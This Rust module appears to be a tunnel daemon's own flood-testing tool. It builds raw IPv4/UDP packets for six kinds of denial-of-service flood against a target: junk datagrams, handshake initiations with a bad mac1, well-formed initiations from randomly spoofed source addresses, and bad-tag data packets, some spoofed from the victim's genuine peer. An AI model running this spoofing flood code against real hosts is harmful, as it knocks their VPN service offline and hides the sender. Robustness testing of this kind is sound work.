//! What the attacker sends: IPv4 packets, made beforehand, sent round and round and varied where it matters.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use anyhow::{Context as _, Result};
use clap::ValueEnum;
use tunneld::crypto::{PrivateKey, PublicKey};
use tunneld::proto::{Instant, Now, Parameters, tunnel};

/// Who is attacked, and by whom.
#[derive(Clone, Copy)]
pub(crate) struct Aim {
    pub(crate) attacker: SocketAddrV4,
    /// The victim's true peer.
    pub(crate) peer: SocketAddrV4,
    pub(crate) target: SocketAddrV4,
    /// The victim's.
    pub(crate) public_key: PublicKey,
}

/// A kind of flood.
#[derive(Clone, Copy, PartialEq, Eq, Debug, ValueEnum)]
pub(crate) enum Weapon {
    /// Random bytes of random lengths, half of them with a message's first four bytes
    Junk,
    /// Initiations whose mac1 is wrong
    BadMac1,
    /// Initiations that only the key exchange tells from the peer's
    OneSource,
    /// The same, each from another address
    NewSources,
    /// Transport data for a live session, its tag wrong
    BadTags,
    /// The same, from the peer's own address and port
    BadTagsAsPeer,
}

/// Packets that differ.
const PACKETS: usize = 4096;

/// The headers of IPv4 and UDP.
const IP: usize = 20;
const HEADERS: usize = IP + 8;

/// Where things are in a packet.
const SOURCE: std::ops::Range<usize> = 12..16;
const INDEX: std::ops::Range<usize> = HEADERS + 4..HEADERS + 8;
const COUNTER: std::ops::Range<usize> = HEADERS + 8..HEADERS + 16;
/// The first byte of an initiation's mac1.
const MAC1: usize = HEADERS + 116;

/// The largest datagram of junk, and as large as the link's own are.
const LARGEST: usize = 1472;
const DATA: usize = 1452;

/// Packets to send.
pub(crate) struct Magazine {
    weapon: Weapon,
    target: SocketAddrV4,
    packets: Vec<Vec<u8>>,
    next: usize,
    random: Random,
    counter: u64,
}

impl Magazine {
    /// Fills it.
    pub(crate) fn new(weapon: Weapon, aim: &Aim) -> Result<Self> {
        let mut random = Random(0x9e37_79b9_7f4a_7c15);
        let source = if weapon == Weapon::BadTagsAsPeer { aim.peer } else { aim.attacker };
        let packets = (0..PACKETS)
            .map(|number| {
                let payload = payload(weapon, number, aim, &mut random)?;
                Ok(packet(source, aim.target, &payload))
            })
            .collect::<Result<_>>()?;
        Ok(Self { weapon, target: aim.target, packets, next: 0, random, counter: 0 })
    }

    /// Where its packets go.
    pub(crate) fn target(&self) -> SocketAddrV4 {
        self.target
    }

    /// The next packets, as many; `index` is that of a live session.
    pub(crate) fn load(&mut self, count: usize, index: u32) -> &[Vec<u8>] {
        if self.next + count > PACKETS {
            self.next = 0;
        }
        let packets = &mut self.packets[self.next..self.next + count];
        self.next += count;
        match self.weapon {
            Weapon::Junk | Weapon::BadMac1 | Weapon::OneSource => {}
            Weapon::NewSources => {
                for packet in &mut *packets {
                    packet[SOURCE].copy_from_slice(&self.random.address().octets());
                }
            }
            Weapon::BadTags | Weapon::BadTagsAsPeer => {
                for packet in &mut *packets {
                    self.counter += 1;
                    packet[INDEX].copy_from_slice(&index.to_le_bytes());
                    packet[COUNTER].copy_from_slice(&self.counter.to_le_bytes());
                }
            }
        }
        packets
    }
}

fn payload(weapon: Weapon, number: usize, aim: &Aim, random: &mut Random) -> Result<Vec<u8>> {
    Ok(match weapon {
        Weapon::Junk => {
            let length = random.next() as usize % (LARGEST + 1);
            let mut junk = random.bytes(length);
            if number.is_multiple_of(2) {
                let first = [(number / 2 % 4) as u8 + 1, 0, 0, 0];
                junk.iter_mut().zip(first).for_each(|(byte, value)| *byte = value);
            }
            junk
        }
        Weapon::BadMac1 => {
            let mut message = initiation(aim, random)?;
            message[MAC1 - HEADERS] ^= 1;
            message
        }
        Weapon::OneSource | Weapon::NewSources => initiation(aim, random)?,
        Weapon::BadTags | Weapon::BadTagsAsPeer => {
            let mut data = random.bytes(DATA);
            data[..4].copy_from_slice(&[4, 0, 0, 0]);
            data
        }
    })
}

/// An initiation for the victim, perfect but for who made it.
fn initiation(aim: &Aim, random: &mut Random) -> Result<Vec<u8>> {
    let seed = |random: &mut Random| -> [u8; 32] {
        random.bytes(32).try_into().expect("there are 32 of them")
    };
    let parameters = Parameters {
        profile: tunneld::wire::Profile::default(),
        private_key: PrivateKey::clamped(seed(random)),
        public_key: aim.public_key,
        preshared_key: [0; 32].into(),
        allowed_ips: Vec::new(),
        addresses: Vec::new(),
        routed: Vec::new(),
        endpoints: vec![vec![aim.target.into()]],
        last_timestamp: None,
        persistent_keepalive: Some(Duration::from_secs(25)),
        mtu: 1420,
        frames: Default::default(),
    };
    let (mut stranger, _, _) = tunnel(&parameters, &seed(random));
    stranger.start(Now { boot: Instant::from_nanos(1), unix: Duration::from_secs(1 << 31) });
    let transmit = stranger.poll_transmit().context("there is no initiation")?;
    Ok(transmit.message.as_bytes().to_vec())
}

/// The kernel completes the IPv4 header; there is no UDP checksum, as IPv4 allows.
fn packet(source: SocketAddrV4, target: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() + HEADERS - IP) as u16;
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend(source.ip().octets());
    packet.extend(target.ip().octets());
    for field in [source.port(), target.port(), length, 0] {
        packet.extend(field.to_be_bytes());
    }
    packet.extend(payload);
    packet
}

/// Numbers that look random.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u32 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 24) as u32
    }

    fn bytes(&mut self, count: usize) -> Vec<u8> {
        std::iter::repeat_with(|| self.next() as u8).take(count).collect()
    }

    /// Any address that may be a source: neither of this host or network nor multicast.
    fn address(&mut self) -> Ipv4Addr {
        Ipv4Addr::from_bits(0x1000_0000 | (self.next() % 0x6000_0000))
    }
}
